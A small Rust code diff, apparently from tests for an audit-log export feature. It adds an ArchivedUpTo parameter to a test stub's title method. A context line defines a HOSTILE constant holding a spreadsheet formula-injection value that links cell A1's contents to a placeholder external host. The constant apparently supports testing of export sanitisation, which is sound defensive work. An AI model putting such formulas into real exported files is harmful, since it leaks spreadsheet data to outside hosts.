@@ -2,7 +2,7 @@
 
 use std::sync::Arc;
 
-use domain::audit::{Event, ExportFormat, LogEntry, LogFilter, Personal};
+use domain::audit::{ArchivedUpTo, Event, ExportFormat, LogEntry, LogFilter, Personal};
 use domain::ids::{CaseId, FirmId, UserId};
 
 use super::ground::Ground;
@@ -17,8 +17,8 @@ const HOSTILE: &str = "=HYPERLINK(\"https://check.invalid/?\"&A1);@SUM(1)";
 struct Bare;
 
 impl InWords for Bare {
-    fn title(&self, _: LogKind) -> &'static str {
-        "check"
+    fn title(&self, _: LogKind, _: Option<ArchivedUpTo>) -> String {
+        "check".to_owned()
     }
 
     fn headings(&self) -> [&'static str; COLUMNS] {
